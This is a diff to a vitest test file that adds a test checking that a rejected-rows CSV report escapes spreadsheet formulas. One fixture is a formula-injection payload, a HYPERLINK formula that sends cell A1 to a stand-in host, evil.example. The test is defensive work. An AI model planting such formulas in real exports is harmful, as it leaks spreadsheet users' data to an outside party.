@@ -1,3 +1,4 @@
+import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { makeCreditCode, makeResidentId } from "@/lib/eligibility";
 import { cohortTemplateHeader, COHORT_COLUMNS, mapCohortHeaders, recordFromRow, type CohortRecord } from "./cohort-columns";
@@ -132,4 +133,10 @@ describe("cohort file", () => {
     expect(csv).toBe("\uFEFFRow,Name,Column,Reason\r\n3,王,ID number,T:residentIdCheck\r\n");
   });
 
+  it("neutralises a hostile name in the rejected-rows report, keeping the row number a number", () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"详情")';
+    const csv = rejectedRowsCsv({ rejected: [{ rowNo: 7, name, errors: [{ column: "idNumber", message: "residentIdCheck" }] }] }, "zh", (k) => (k === "residentIdCheck" ? "-校验位错误" : k), ["行", "姓名", "列", "原因"]);
+    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
+    expect(rows[1]).toEqual(["7", `'${name}`, "身份证号", "'-校验位错误"]);
+  });
 });
